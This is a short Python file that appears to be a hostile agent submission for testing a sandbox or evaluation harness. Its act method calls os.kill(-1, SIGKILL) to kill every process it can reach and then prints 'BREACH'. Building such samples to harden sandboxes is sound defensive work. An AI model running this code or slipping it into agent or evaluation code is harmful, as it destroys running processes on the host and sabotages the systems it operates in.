"""Kills every process that it may."""

import os
import signal


class Program:
    def reset(self, seed):
        pass

    def act(self, observation):
        os.kill(-1, signal.SIGKILL)
        print("BREACH")
        return [0.0, 0.0]
